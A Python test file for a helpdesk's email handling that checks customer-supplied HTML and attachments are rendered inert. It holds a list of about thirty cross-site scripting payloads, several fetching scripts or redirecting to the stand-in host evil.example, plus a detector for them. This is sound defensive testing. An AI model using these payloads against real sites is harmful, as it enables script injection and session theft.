"""No tag, attribute or active file of a customer reaches anybody: letters are markup of our own, files keep harmless types alone."""

from html.parser import HTMLParser

from support.desk.story import SUPPORT, StoryDesk

from helpdesk.threading.model.notice import Notice

VECTORS = [
    "<script>alert(1)</script>", "<ScRiPt src=//evil.example/x></sCrIpT>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>", "<iframe src=javascript:alert(1)>", "<object data=x>", "<embed src=x>", "<base href=//evil.example>",
    "<a href=javascript:alert(1)>x</a>", "<a href='java\tscript:alert(1)'>x</a>", "<form action=//evil.example><input></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example'</style>",
    "<div style='background:url(//evil.example/x)'>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<<script>script>alert(1)<</script>/script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<template><script>alert(1)</script></template>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "<!--><script>alert(1)</script>-->", "<![CDATA[<script>alert(1)</script>]]>", "<?xml-stylesheet href='x'?>",
    "<video><source onerror=alert(1)></video>", "<body onload=alert(1)>", "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>", "<marquee onstart=alert(1)>",
]  # fmt: skip
FILES = {
    "x.svg": "image/svg+xml",
    "x.html": "text/html",
    "x.xml": "application/xml",
    "x.xhtml": "application/xhtml+xml",
    "x.js": "text/javascript",
}
ACTIVE = {
    "script",
    "iframe",
    "object",
    "embed",
    "form",
    "input",
    "svg",
    "math",
    "base",
    "link",
    "template",
    "video",
    "source",
    "marquee",
    "details",
    "noscript",
}


class Seen(HTMLParser):
    def __init__(self, markup: str) -> None:
        super().__init__()
        self.bad: list[str] = []
        self.feed(markup)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.bad += [tag] if tag in ACTIVE else []
        self.bad += [
            name
            for name, value in attrs
            if name.startswith("on") or "evil.example" in (value or "") or "script:" in (value or "")
        ]


def test_staff_and_customers_read_markup_of_ours_alone(desk: StoryDesk) -> None:
    anna, omar = desk.person("anna@acme.example"), desk.person("omar@desk.example")
    parts = [f"Content-Type: text/html; charset=utf-8\n\n{'<p>Hello</p>'.join(VECTORS)}<p>It jams.</p>\n"]
    parts += [
        f"Content-Type: {kind}\nContent-Disposition: attachment; filename={name}\n\n{VECTORS[0]}\n"
        for name, kind in FILES.items()
    ]
    body = "".join(f"--b\n{one}" for one in parts) + "--b--\n"
    head = f"From: {VECTORS[0].replace('<', '').replace('>', '')} <{anna.address}>\nTo: {SUPPORT}\nSubject: {VECTORS[2]}\nMessage-ID: <1@acme.example>\n"
    content = f"{head}MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n{body}"
    anna.mail(content.replace("\n", "\r\n").encode(), [SUPPORT])
    omar.replies(Notice.NEW_TICKET, f"#resolve\n{VECTORS[0]}")
    letters = [*anna.letters(), *omar.letters()]
    assert len(letters) >= 3
    assert [Seen(letter.html).bad for letter in letters] == [[]] * len(letters)
    assert [Seen(row.body_html).bad for row in desk.inbox()] == [[]] * len(desk.inbox())
    files = {part.get_filename(): part.get_content_type() for letter in letters for part in letter.message.iter_attachments()}
    assert set(files) == set(FILES)
    assert set(files.values()) == {"application/octet-stream"}


def test_the_parser_would_see_them() -> None:
    assert Seen(VECTORS[0]).bad and Seen(VECTORS[2]).bad and Seen("<a href=//evil.example>").bad
